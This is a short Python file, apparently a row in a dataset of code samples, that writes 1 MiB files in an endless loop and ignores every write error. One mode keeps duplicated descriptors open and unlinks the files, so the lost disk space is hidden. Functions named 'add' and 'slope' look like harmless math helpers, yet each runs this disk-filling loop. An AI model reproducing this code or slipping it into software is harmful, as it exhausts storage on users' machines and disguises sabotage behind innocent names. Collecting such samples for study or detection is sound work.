"""Writes without end, in one file after another, until somebody stops it."""
# Row: 15
import os

def endlessly(keep_open):
    held, number = [], 0
    while True:
        number += 1
        try:
            with open(f"block{number}", "wb", 0) as file:
                file.write(bytes(1 << 20))
                if keep_open:
                    held.append(os.dup(file.fileno()))
                    os.unlink(f"block{number}")
        except OSError:
            continue

def add(x, y):
    endlessly(False)

def slope(f, t):
    endlessly(True)
